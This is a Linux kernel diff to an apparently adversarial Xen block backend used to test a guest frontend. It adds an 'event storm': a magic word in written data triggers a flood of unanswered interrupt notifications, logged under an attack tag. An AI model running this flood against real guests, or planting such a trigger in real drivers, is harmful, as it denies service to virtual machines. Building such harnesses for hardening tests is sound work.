@@ -10,6 +10,7 @@
 #define pr_fmt(fmt) KBUILD_MODNAME ": " fmt
 
 #include <linux/jiffies.h>
+#include <linux/kthread.h>
 #include <linux/mm.h>
 #include <linux/slab.h>
 #include <linux/string.h>
@@ -157,6 +158,42 @@ static void fab_check_arm(struct fab_dev *fb, struct fab_held *h,
 		fb->dev->otherend_id, r->sector, fb->honest);
 }
 
+/* A WRITE served honestly: does its data start with the storm word? */
+static void fab_check_storm(struct fab_dev *fb, struct fab_held *h,
+			    const struct fipcblk_request *r)
+{
+	char word[FAB_STORM_LEN];
+
+	if (!storm_ms || r->nr_bytes < FAB_STORM_LEN ||
+	    r->first_offset + FAB_STORM_LEN > FIPCBLK_PAGE_BYTES)
+		return;
+	memcpy(word, page_address(h->pages[0]) + r->first_offset,
+	       FAB_STORM_LEN);
+	if (!memcmp(word, FAB_STORM_MAGIC, FAB_STORM_LEN))
+		fb->storm_pending = true;
+}
+
+/*
+ * The event storm (issue 45, finding 7): notify the frontend as fast as
+ * we can for storm_ms, with no response behind any of the notifications.
+ * Its handler must flag them spurious, so that Xen's late EOI throttles
+ * them (the guest counts how many it handled).
+ */
+static void fab_storm(struct fab_dev *fb)
+{
+	unsigned long end = jiffies + msecs_to_jiffies(storm_ms);
+	u64 sent = 0;
+
+	fb->storm_pending = false;
+	while (time_before(jiffies, end) && !kthread_should_stop()) {
+		notify_remote_via_irq(fb->irq);
+		if (!(++sent & 63))
+			cond_resched();
+	}
+	pr_info("@@FIPC-ATTACKB storm dom=%u sent=%llu ms=%u\n",
+		fb->dev->otherend_id, sent, storm_ms);
+}
+
 /* Do we keep the next READ/WRITE mapped? */
 static bool fab_hold_next(struct fab_dev *fb)
 {
@@ -239,6 +276,8 @@ static s16 fab_rw(struct fab_dev *fb, const struct fipcblk_request *r,
 			fab_zero(h, r);
 		else if (wait_arm)
 			fab_check_arm(fb, h, r);
+		if (r->op == FIPCBLK_OP_WRITE)
+			fab_check_storm(fb, h, r);
 		fab_unmap(fb, h);
 		fb->honest++;
 		return FIPCBLK_RSP_OKAY;
@@ -380,6 +419,8 @@ void fab_serve(struct fab_dev *fb)
 		if (READ_ONCE(fb->ctrl->front_sleeping))
 			notify_remote_via_irq(fb->irq);
 	}
+	if (fb->storm_pending && !fb->broken)
+		fab_storm(fb);
 	if (fb->broken)
 		xenbus_switch_state(fb->dev, XenbusStateClosing);
 }
